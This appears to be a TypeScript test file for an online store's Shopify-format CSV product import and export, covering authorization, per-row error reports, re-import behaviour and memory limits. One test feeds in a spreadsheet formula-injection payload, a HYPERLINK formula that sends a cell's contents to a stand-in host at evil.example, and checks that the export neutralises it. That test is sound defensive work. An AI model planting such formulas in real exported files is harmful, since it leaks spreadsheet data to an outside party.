import { readFileSync } from 'node:fs';
import { Readable } from 'node:stream';
import { sql } from 'kysely';
import t from 'tap';
import { parse } from 'csv-parse/sync';
import { CSV_COLUMNS } from '../../shared/catalog/csv/columns.js';
import { importProductsCsv, MAX_RECORD_CHARS, MAX_ROWS_PER_PRODUCT } from '../../shared/catalog/csv/import.js';
import type { Db } from '../../shared/db/index.js';
import { buildTestApp, eventually, startTestWorker, testEnv, tokenFor } from '../support/harness.js';
import { multipartBody } from '../support/multipart.js';
import { staff } from './helpers.js';

const fixture = readFileSync(new URL('../fixtures/shopify-products.csv', import.meta.url));

/** The catalog as a reader sees it, without ids or timestamps: two databases can be compared. */
async function snapshot(db: Db) {
  const products = await sql<Record<string, unknown>>`
    SELECT p.slug, p.title, p.description, p.status, p.tags, p.vendor, p.product_type, p.seo_title, p.seo_description,
           p.price_from, p.in_stock,
           (WITH RECURSIVE up AS (SELECT id, parent_id, name, 0 AS depth FROM categories WHERE id = p.category_id
              UNION ALL SELECT c.id, c.parent_id, c.name, up.depth + 1 FROM categories c JOIN up ON c.id = up.parent_id)
            SELECT string_agg(name, ' > ' ORDER BY depth DESC) FROM up) AS category,
           (SELECT json_agg(json_build_object('sku', v.sku, 'price', v.price, 'compare', v.compare_at_price, 'options', v.options,
                   'grams', v.weight_grams, 'onHand', i.on_hand) ORDER BY v.position, v.sku)
            FROM product_variants v JOIN inventory i ON i.variant_id = v.id WHERE v.product_id = p.id)::text AS variants,
           (SELECT json_agg(json_build_object('src', m.source_url, 'alt', m.alt, 'position', m.position) ORDER BY m.position)
            FROM product_images m WHERE m.product_id = p.id)::text AS images
    FROM products p ORDER BY p.slug`.execute(db);
  return products.rows;
}

t.test(
  'Shopify CSV import through the API and the worker: bad rows reported, products whole, re-import upserts',
  async (t) => {
    const { config, db } = await testEnv(t);
    const app = await buildTestApp(t, config);
    await startTestWorker(t, config, { queues: ['imports'] });

    const body = multipartBody(fixture, 'products.csv', 'text/csv');
    t.equal(
      (
        await app.inject({
          method: 'POST',
          url: '/api/v1/admin/imports',
          headers: body.headers,
          payload: body.payload,
        })
      ).statusCode,
      401,
    );
    t.equal(
      (
        await app.inject({
          method: 'POST',
          url: '/api/v1/admin/imports',
          headers: { authorization: tokenFor(app, 'customer'), ...body.headers },
          payload: body.payload,
        })
      ).statusCode,
      403,
    );
    const started = await app.inject({
      method: 'POST',
      url: '/api/v1/admin/imports',
      headers: { ...staff(app), ...body.headers },
      payload: body.payload,
    });
    t.equal(started.statusCode, 202, started.body);
    const { id } = started.json();
    const done = await eventually(async () => {
      const res = await app.inject({ url: `/api/v1/admin/imports/${id}`, headers: staff(app) });
      const view = res.json();
      return view.status === 'completed' ? view : null;
    });
    t.match(done, {
      status: 'completed',
      filename: 'products.csv',
      totalRows: 11,
      processedRows: 11,
      productsCreated: 3,
      productsUpdated: 0,
    });
    t.same(
      done.errors.map((e: { line: number; handle?: string }) => [e.line, e.handle ?? null]),
      [
        [7, 'adire-shirt'],
        [9, null],
        [10, 'aso-oke-cap'],
        [13, 'dashiki'],
      ],
      'each bad row is reported with its line number',
    );
    t.match(done.errors[0].reason, /Variant Inventory Qty must be a whole number/);
    t.match(done.errors[1].reason, /Handle is required/);
    t.match(done.errors[2].reason, /Variant Price must be a decimal/);
    t.match(done.errors[3].reason, /already belongs to another product/);

    // A product with a bad row is not there at all (not even its good first row).
    t.notOk(
      await db.selectFrom('products').select('id').where('slug', '=', 'adire-shirt').executeTakeFirst(),
    );
    t.notOk(
      await db.selectFrom('productVariants').select('id').where('sku', '=', 'ADR-SHIRT-M').executeTakeFirst(),
    );
    t.notOk(await db.selectFrom('products').select('id').where('slug', '=', 'dashiki').executeTakeFirst());

    const dress = (await app.inject('/api/v1/products/ankara-maxi-dress')).json();
    t.match(dress, {
      title: 'Ankara Maxi Dress',
      priceFrom: 2_500_000,
      inStock: true,
      category: { slug: 'dresses' },
    });
    t.match(dress.description, /Made in Lagos/);
    t.same(
      dress.variants.map((v: { sku: string; price: number; available: number; options: object }) => [
        v.sku,
        v.price,
        v.available,
        v.options,
      ]),
      [
        ['ANK-MAXI-S-BLU', 2_500_000, 5, { Size: 'S', Color: 'Blue' }],
        ['ANK-MAXI-M-BLU', 2_500_000, 0, { Size: 'M', Color: 'Blue' }],
        ['ANK-MAXI-L-RED', 2_650_050, 2, { Size: 'L', Color: 'Red' }],
      ],
    );
    t.same(
      dress.images.map((i: { alt: string; position: number }) => [i.alt, i.position]),
      [
        ['Front view', 0],
        ['Back view', 1],
      ],
    );
    t.equal((await app.inject('/api/v1/products/aso-oke-cap')).statusCode, 404);
    const movements = await db
      .selectFrom('inventoryMovements')
      .select(['reason', 'deltaOnHand'])
      .where('reason', '=', 'import')
      .execute();
    t.ok(movements.length >= 4, 'stock set by the import is recorded as movements');

    // Re-import: updates, never duplicates.
    const before = await snapshot(db);
    const again = await app.inject({
      method: 'POST',
      url: '/api/v1/admin/imports',
      headers: { ...staff(app), ...body.headers },
      payload: body.payload,
    });
    const second = await eventually(async () => {
      const view = (
        await app.inject({ url: `/api/v1/admin/imports/${again.json().id}`, headers: staff(app) })
      ).json();
      return view.status === 'completed' ? view : null;
    });
    t.match(second, { productsCreated: 0, productsUpdated: 3 });
    t.same(await snapshot(db), before, 'the same file twice gives the same catalog');
    t.equal((await db.selectFrom('productImages').select('id').execute()).length, 3);
    t.equal(
      (
        await app.inject({
          url: '/api/v1/admin/imports/00000000-0000-4000-8000-000000000099',
          headers: staff(app),
        })
      ).statusCode,
      404,
    );
  },
);

t.test(
  'export streams the same format; export → import into an empty database → the same catalog',
  async (t) => {
    const source = await testEnv(t);
    const app = await buildTestApp(t, source.config);
    await importProductsCsv(source.db, Readable.from([fixture]));
    // Something made through the API too: a draft, a product without images, tags with commas avoided.
    const created = await app.inject({
      method: 'POST',
      url: '/api/v1/products',
      headers: staff(app),
      payload: {
        title: 'Draft Kaftan',
        status: 'draft',
        tags: ['kaftan', 'linen'],
        variants: [{ sku: 'KAF-1', options: { Size: 'XL' }, price: 1_999_999, weightGrams: 700 }],
      },
    });
    t.equal(created.statusCode, 201, created.body);

    t.equal((await app.inject('/api/v1/admin/exports/products.csv')).statusCode, 401);
    const res = await app.inject({ url: '/api/v1/admin/exports/products.csv', headers: staff(app) });
    t.equal(res.statusCode, 200);
    t.match(res.headers['content-type'], /^text\/csv/);
    t.match(res.body.split('\n')[0], /^Handle,Title,Body \(HTML\),Vendor/);

    const target = await testEnv(t);
    const result = await importProductsCsv(target.db, Readable.from([res.rawPayload]));
    t.same(result.errors, [], 'the export imports cleanly');
    t.equal(result.productsCreated, 4);
    t.same(
      await snapshot(target.db),
      await snapshot(source.db),
      'same products, variants, prices, stock, categories and images',
    );
  },
);

const HEADER = CSV_COLUMNS.join(',');
/** A CSV line from named cells (quoted where needed), in CSV_COLUMNS order. */
const csvLine = (cells: Partial<Record<(typeof CSV_COLUMNS)[number], string>>) =>
  CSV_COLUMNS.map((c) => {
    const v = cells[c] ?? '';
    return /[",\n\r]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v;
  }).join(',');

t.test(
  'export: cells that would run as formulas are prefixed with an apostrophe; the import takes it off again',
  async (t) => {
    const source = await testEnv(t);
    const app = await buildTestApp(t, source.config);
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    const csv = [
      HEADER,
      csvLine({
        Handle: 'formula-wrap',
        Title: evil,
        Vendor: '@SUM(1+1)',
        Type: '+cmd',
        Tags: '-2+3',
        'Body (HTML)': '\t=1+1',
        'Option1 Name': 'Size',
        'Option1 Value': '-M',
        'Variant SKU': 'FW-1',
        'Variant Price': '100',
        'SEO Title': '-x',
      }),
    ].join('\n');
    const imported = await importProductsCsv(source.db, Readable.from([csv]));
    t.same(imported.errors, []);

    const res = await app.inject({ url: '/api/v1/admin/exports/products.csv', headers: staff(app) });
    t.equal(res.statusCode, 200);
    const records = parse<Record<string, string>>(res.body, { columns: true });
    t.equal(records.length, 1, 'one product, one row');
    const row = records[0];
    t.equal(row.Title, `'${evil}`);
    t.equal(row.Vendor, "'@SUM(1+1)");
    t.equal(row.Type, "'+cmd");
    t.equal(row.Tags, "'-2+3");
    t.equal(row['Body (HTML)'], "'\t=1+1");
    t.equal(row['SEO Title'], "'-x");
    t.equal(row['Option1 Value'], "'-M");
    t.equal(row['Variant SKU'], 'FW-1', 'plain cells are untouched');
    t.equal(row['Variant Price'], '100.00');

    const target = await testEnv(t);
    const again = await importProductsCsv(target.db, Readable.from([res.rawPayload]));
    t.same(again.errors, []);
    t.same(
      await snapshot(target.db),
      await snapshot(source.db),
      'the escaped export re-imports to the same catalog',
    );
  },
);

t.test(
  'import: every bad row of a product is reported in one pass, and the product stays out whole',
  async (t) => {
    const { db } = await testEnv(t);
    const first = await importProductsCsv(
      db,
      Readable.from([
        [
          HEADER,
          csvLine({ Handle: 'taken', Title: 'Taken', 'Variant SKU': 'TAKEN-1', 'Variant Price': '10' }),
        ].join('\n'),
      ]),
    );
    t.same(first.errors, []);
    const csv = [
      HEADER,
      csvLine({
        Handle: 'many-faults',
        Title: 'Many Faults',
        'Option1 Name': 'Size',
        'Option1 Value': 'S',
        'Variant SKU': 'MF-S',
        'Variant Price': '10',
      }), // line 2 good
      csvLine({ Handle: 'many-faults', 'Option1 Value': 'M', 'Variant SKU': 'MF-M', 'Variant Price': 'ten' }), // 3 bad price
      csvLine({
        Handle: 'many-faults',
        'Option1 Value': 'L',
        'Variant SKU': 'MF-L',
        'Variant Price': '10',
        'Variant Inventory Qty': 'lots',
      }), // 4 bad qty
      csvLine({
        Handle: 'many-faults',
        'Option1 Value': 'XL',
        'Variant SKU': 'TAKEN-1',
        'Variant Price': '10',
      }), // 5 SKU of another product (database)
      csvLine({
        Handle: 'many-faults',
        'Option1 Value': 'XXL',
        'Variant SKU': 'MF-S',
        'Variant Price': '10',
      }), // 6 SKU twice
      csvLine({ Handle: 'many-faults', 'Image Src': 'ftp://nope' }), // 7 bad image
      csvLine({ Handle: 'fine', Title: 'Fine', 'Variant SKU': 'FINE-1', 'Variant Price': '10' }), // 8 another product, good
      csvLine({ Handle: 'No Good', 'Variant SKU': 'NG-1', 'Variant Price': 'x' }), // 9 bad handle, no title, bad price
    ].join('\n');
    const result = await importProductsCsv(db, Readable.from([csv]));
    t.same(
      result.errors.map((e) => [e.line, e.handle]),
      [
        [3, 'many-faults'],
        [4, 'many-faults'],
        [5, 'many-faults'],
        [6, 'many-faults'],
        [7, 'many-faults'],
        [9, 'No Good'],
      ],
      'each bad row once, with its line',
    );
    t.match(result.errors[0].reason, /Variant Price must be a decimal/);
    t.match(result.errors[1].reason, /Variant Inventory Qty must be a whole number/);
    t.match(result.errors[2].reason, /TAKEN-1 already belongs to another product/);
    t.match(result.errors[3].reason, /MF-S appears twice/);
    t.match(result.errors[4].reason, /Image Src must be an http/);
    t.match(result.errors[5].reason, /Handle "No Good"/);
    t.match(result, { productsCreated: 1, processedRows: 8 });
    t.notOk(
      await db.selectFrom('products').select('id').where('slug', '=', 'many-faults').executeTakeFirst(),
      'not even the good rows',
    );
    t.notOk(await db.selectFrom('productVariants').select('id').where('sku', '=', 'MF-S').executeTakeFirst());
    t.ok(await db.selectFrom('products').select('id').where('slug', '=', 'fine').executeTakeFirst());
  },
);

t.test(
  'import memory is bounded: a huge record stops with a clear error, a handle with too many rows is skipped',
  async (t) => {
    const { db } = await testEnv(t);
    // An unclosed quote swallows the rest of the file into one field.
    const huge = [
      HEADER,
      csvLine({ Handle: 'ok-before', Title: 'Ok', 'Variant SKU': 'OK-1', 'Variant Price': '1' }),
      csvLine({ Handle: 'cut-short', Title: 'Cut short', 'Variant SKU': 'CUT-1', 'Variant Price': '1' }),
      `cut-short,"Runaway ${'x'.repeat(MAX_RECORD_CHARS)}`,
    ].join('\n');
    const stopped = await importProductsCsv(db, Readable.from([huge]));
    t.notOk(
      await db.selectFrom('products').select('id').where('slug', '=', 'cut-short').executeTakeFirst(),
      'the product it cut short is not',
    );
    t.equal(stopped.errors.length, 1);
    t.match(stopped.errors[0].reason, /longer than 1,000,000 characters/);

    const rows = [
      HEADER,
      csvLine({ Handle: 'endless', Title: 'Endless', 'Variant SKU': 'END-0', 'Variant Price': '1' }),
    ];
    for (let i = 1; i <= MAX_ROWS_PER_PRODUCT + 10; i++)
      rows.push(csvLine({ Handle: 'endless', 'Image Src': `https://cdn.example.com/${i}.jpg` }));
    rows.push(csvLine({ Handle: 'after', Title: 'After', 'Variant SKU': 'AFTER-1', 'Variant Price': '1' }));
    const skipped = await importProductsCsv(db, Readable.from([rows.join('\n')]));
    t.same(
      skipped.errors.map((e) => [e.line, e.handle]),
      [[MAX_ROWS_PER_PRODUCT + 2, 'endless']],
    );
    t.match(skipped.errors[0].reason, new RegExp(`more than ${MAX_ROWS_PER_PRODUCT} rows`));
    t.match(skipped, { productsCreated: 1, processedRows: MAX_ROWS_PER_PRODUCT + 12 });
    t.notOk(await db.selectFrom('products').select('id').where('slug', '=', 'endless').executeTakeFirst());
    t.ok(await db.selectFrom('products').select('id').where('slug', '=', 'after').executeTakeFirst());
  },
);
